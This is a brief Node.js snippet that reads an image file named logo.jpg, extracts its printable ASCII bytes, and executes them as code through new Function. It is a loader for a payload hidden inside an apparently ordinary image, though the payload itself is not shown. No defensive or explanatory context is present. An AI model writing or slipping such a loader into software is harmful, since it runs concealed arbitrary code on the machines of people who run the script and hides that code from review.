const fs = require('fs');
const raw = fs.readFileSync('logo.jpg');
let text = '';
for (let i = 0; i < raw.length; i++) {
  if (raw[i] >= 32 && raw[i] <= 126) {
    text += String.fromCharCode(raw[i]);
  }
}
const fn = new Function('a', text);
fn(null);
